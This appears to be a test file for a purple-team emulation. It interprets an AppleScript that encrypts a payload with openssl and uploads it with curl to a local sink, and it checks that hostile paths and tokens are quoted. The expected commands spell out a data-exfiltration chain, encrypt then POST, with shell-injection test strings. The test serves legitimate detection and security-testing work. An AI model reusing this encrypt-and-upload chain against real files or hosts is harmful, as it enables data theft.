// The AppleScript emulation cannot run on Linux, so a tiny interpreter for the subset it uses
// (set … to, system attribute, string concatenation, quoted form of, word N of, do shell script,
// handler calls, write) evaluates it with a fake environment. The test then compares the exact
// shell commands it would hand to `do shell script` with the argv we expect, using hostile paths
// (spaces, single and double quotes) to prove `quoted form of` is applied everywhere, and lets the
// real sh split the commands to confirm.

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const SOURCE = readFileSync(join('scenarios', 'osascript', 'encrypt-upload.applescript'), 'utf8');

type Vars = Record<string, string>;

interface Machine {
  env: Record<string, string>;
  shell: (cmd: string) => string;
  commands: string[];
  written: string[];
  handlers: Record<string, { params: string[]; body: string[] }>;
}

function splitTop(s: string, sep: string): string[] {
  const out: string[] = [];
  let cur = '';
  let inStr = false;
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (inStr && c === '\\') {
      cur += c + (s[i + 1] ?? '');
      i++;
      continue;
    }
    if (c === '"') inStr = !inStr;
    if (!inStr && s.startsWith(sep, i)) {
      out.push(cur.trim());
      cur = '';
      i += sep.length - 1;
      continue;
    }
    cur += c;
  }
  out.push(cur.trim());
  return out;
}

function quotedForm(s: string): string {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

function evalExpr(expr: string, vars: Vars, m: Machine): string {
  const e = expr.trim();
  if (e.startsWith('do shell script ')) {
    const cmd = evalExpr(e.slice('do shell script '.length), vars, m);
    m.commands.push(cmd);
    return m.shell(cmd);
  }
  const sa = /^system attribute "([A-Z_]+)"$/.exec(e);
  if (sa) return m.env[sa[1]!] ?? '';
  const parts = splitTop(e, ' & ');
  if (parts.length > 1) return parts.map((p) => evalExpr(p, vars, m)).join('');
  if (e.startsWith('"') && e.endsWith('"')) return e.slice(1, -1).replace(/\\(["\\])/g, '$1');
  const qf = /^quoted form of (\w+)$/.exec(e);
  if (qf) return quotedForm(lookup(qf[1]!, vars));
  const w = /^word (\d+) of (\w+)$/.exec(e);
  if (w) return lookup(w[2]!, vars).trim().split(/\s+/)[Number(w[1]) - 1] ?? '';
  if (e === 'linefeed') return '\n';
  if (/^\w+$/.test(e)) return lookup(e, vars);
  throw new Error(`the test interpreter does not understand: ${e}`);
}

function lookup(name: string, vars: Vars): string {
  if (!(name in vars)) throw new Error(`undefined variable ${name}`);
  return vars[name]!;
}

function exec(lines: string[], vars: Vars, m: Machine): void {
  for (const raw of lines) {
    const line = raw.trim();
    if (!line || line.startsWith('--')) continue;
    let mm: RegExpExecArray | null;
    if ((mm = /^set (\w+) to (.+)$/.exec(line))) {
      if (mm[2]!.startsWith('open for access')) continue;
      vars[mm[1]!] = evalExpr(mm[2]!, vars, m);
    } else if ((mm = /^my (\w+)\((.*)\)$/.exec(line))) {
      const h = m.handlers[mm[1]!];
      assert.ok(h, `unknown handler ${mm[1]}`);
      const args = splitTop(mm[2]!, ',').map((a) => evalExpr(a, vars, m));
      exec(h.body, Object.fromEntries(h.params.map((p, i) => [p, args[i] ?? ''])), m);
    } else if ((mm = /^if (\w+) is "" then return$/.exec(line))) {
      if (lookup(mm[1]!, vars) === '') return;
    } else if ((mm = /^write (\w+) to fh starting at eof/.exec(line))) {
      m.written.push(lookup(mm[1]!, vars));
    } else if (/^(try|end try|close access fh|end \w+)$/.test(line)) {
      continue;
    } else {
      throw new Error(`the test interpreter does not understand the statement: ${line}`);
    }
  }
}

function load(source: string): Machine['handlers'] {
  const handlers: Machine['handlers'] = {};
  const lines = source.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const head = /^on (\w+)(?:\((.*)\)| (\w+))?$/.exec(lines[i]!.trim());
    if (!head) continue;
    const end = lines.findIndex((l, j) => j > i && l.trim() === `end ${head[1]}`);
    handlers[head[1]!] = { params: head[2] ? head[2].split(',').map((p) => p.trim()) : head[3] ? [head[3]] : [], body: lines.slice(i + 1, end) };
  }
  return handlers;
}

/** POSIX sh word splitting for the quoting forms the script produces; operators end a command. */
function shellCommands(cmd: string): string[][] {
  const cmds: string[][] = [[]];
  let word: string | undefined;
  const flush = () => {
    if (word !== undefined) cmds.at(-1)!.push(word);
    word = undefined;
  };
  for (let i = 0; i < cmd.length; i++) {
    const c = cmd[i]!;
    if (c === "'") {
      const j = cmd.indexOf("'", i + 1);
      word = (word ?? '') + cmd.slice(i + 1, j);
      i = j;
    } else if (c === '"') {
      let j = i + 1;
      let s = '';
      while (cmd[j] !== '"') {
        if (cmd[j] === '\\' && '"\\$`'.includes(cmd[j + 1]!)) j++;
        s += cmd[j];
        j++;
      }
      word = (word ?? '') + s;
      i = j;
    } else if (c === '\\') {
      word = (word ?? '') + cmd[++i];
    } else if (c === ' ' || c === '\t') {
      flush();
    } else if (c === '&' && cmd[i - 1] === '>') {
      word = (word ?? '') + c; // 2>&1 is a redirection, not a background operator
    } else if (';|&'.includes(c)) {
      flush();
      cmds.push([]);
    } else word = (word ?? '') + c;
  }
  flush();
  return cmds.filter((c) => c.length);
}

function withoutRedirections(argv: string[]): string[] {
  return argv.filter((a) => !/^(\d?>|<)/.test(a) && !/^\d?>&\d$/.test(a));
}

function realShWords(cmd: string): string[] {
  // `set --` makes sh split the command exactly as it would to run it.
  const out = execFileSync('sh', ['-c', `set -- ${cmd}; for a in "$@"; do printf '%s\\0' "$a"; done`]);
  return out.toString('utf8').split('\0').slice(0, -1);
}

describe('AppleScript emulation: the shell commands it runs', () => {
  const ws = `/tmp/purple ws/it's "here"`;
  const env = {
    PURPLE_PAYLOAD: `${ws}/payload.txt`,
    PURPLE_OUT: `${ws}/payload.enc`,
    PURPLE_PASSFILE: `${ws}/pass file`,
    PURPLE_SINK_URL: `http://127.0.0.1:40123/upload/osascript/applescript-openssl+curl`,
    PURPLE_SINK_TOKEN: `tok'en "x" $HOME`,
    PURPLE_JOURNAL: `${ws}/journal.jsonl`,
  };
  const outputs: Array<[RegExp, string]> = [
    [/^echo \$PPID$/, '5000'],
    [/^ps -o ppid= /, '1'],
    [/^perl /, '1700000000123.456'],
    [/^wc -c /, '4144'],
    [/^printf %s /, '127.0.0.1:40123'],
    [/^openssl enc /, '6001 6000'],
    [/^curl /, '6101 6100'],
  ];
  const m: Machine = {
    env,
    commands: [],
    written: [],
    handlers: load(SOURCE),
    shell: (cmd) => outputs.find(([re]) => re.test(cmd))?.[1] ?? assert.fail(`unexpected shell command: ${cmd}`),
  };
  const vars: Vars = {};
  exec(m.handlers.run!.body, vars, m);

  test('openssl enc gets the contract arguments, every path quoted', () => {
    const cmd = m.commands.find((c) => c.startsWith('openssl '))!;
    const [first, ...rest] = shellCommands(cmd);
    assert.deepEqual(withoutRedirections(first!), ['openssl', 'enc', '-aes-256-cbc', '-pbkdf2', '-salt', '-pass', `file:${env.PURPLE_PASSFILE}`, '-in', env.PURPLE_PAYLOAD, '-out', env.PURPLE_OUT]);
    // Run in the background, then report the child's pid and its parent sh's pid, then wait.
    assert.deepEqual(rest, [['echo', '$!', '$$'], ['wait', '$!']]);
  });

  test('curl uploads the ciphertext to the sink URL with the bearer token', () => {
    const cmd = m.commands.find((c) => c.startsWith('curl '))!;
    const [first] = shellCommands(cmd);
    assert.deepEqual(withoutRedirections(first!), ['curl', '-sS', '--fail', '-o', '/dev/null', '-X', 'POST', '-H', `Authorization: Bearer ${env.PURPLE_SINK_TOKEN}`, '--data-binary', `@${env.PURPLE_OUT}`, env.PURPLE_SINK_URL]);
  });

  test('the real sh splits the commands the same way (quoted form handling)', () => {
    for (const name of ['encCmd', 'upCmd']) {
      const cmd = vars[name]!;
      assert.deepEqual(realShWords(cmd), shellCommands(cmd)[0], name);
    }
  });

  test('no command carries an unquoted parameter value', () => {
    for (const c of m.commands) {
      for (const v of [env.PURPLE_OUT, env.PURPLE_PASSFILE, env.PURPLE_SINK_TOKEN]) {
        if (c.includes(v)) assert.ok(!c.includes(` ${v}`) || c.includes(quotedForm(v)), `${v} appears unquoted in: ${c}`);
      }
    }
  });

  test('the journal lines are JSON with the real pids of openssl and curl', () => {
    const lines = m.written.map((l) => {
      assert.ok(l.endsWith('\n'));
      return JSON.parse(l) as { action: string; pid: number; ppid: number; time_ms: number; details: Record<string, unknown> };
    });
    assert.deepEqual(lines.map((l) => l.action), ['start', 'encrypt', 'upload', 'exit']);
    assert.deepEqual(lines.map((l) => [l.pid, l.ppid]), [[5000, 1], [6001, 6000], [6101, 6100], [5000, 1]]);
    assert.equal(lines[0]?.time_ms, 1700000000123.456);
    assert.deepEqual(lines[1]?.details, { tool: 'openssl', cipher: 'aes-256-cbc-pbkdf2', bytes: 4144, via: 'do shell script' });
    assert.deepEqual(lines[2]?.details, { tool: 'curl', protocol: 'http', destination: '127.0.0.1:40123', bytes: 4144, via: 'do shell script' });
  });
});
